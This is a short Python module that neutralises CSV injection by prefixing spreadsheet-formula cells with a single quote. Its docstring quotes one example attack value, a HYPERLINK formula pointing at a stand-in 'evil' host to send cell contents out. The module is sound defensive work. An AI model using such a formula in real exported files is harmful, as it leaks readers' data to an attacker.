"""CSV cells that a spreadsheet will not run: the OWASP defence against CSV injection.

A CSV opened in Excel, LibreOffice or Google Sheets runs a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and, in some versions, a tab or carriage return) as a formula. Digests
carry text from the slow log — instance ids, fingerprints, user names — so a crafted value
such as ``=HYPERLINK("http://evil/?"&A1)`` would run on the reader's machine. Such a text
cell gets a leading single quote, which spreadsheets show as text. Numbers are left alone:
``-3`` is a number, not a formula.

>>> [safe_cell(v) for v in ("=1+1", "@SUM(A1)", "select 1", -3, 2.5, None, "-- x")]
["'=1+1", "'@SUM(A1)", 'select 1', -3, 2.5, None, "'-- x"]

Pure: no I/O.
"""

from __future__ import annotations

from typing import Any

__all__ = ["FORMULA_PREFIXES", "safe_cell", "safe_row"]

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value`` with a leading ``'`` if it is text a spreadsheet would run as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_PREFIXES):
        return "'" + value
    return value


def safe_row(values: list[Any]) -> list[Any]:
    """Every cell of a row made safe (for ``csv.writer.writerow``)."""
    return [safe_cell(value) for value in values]
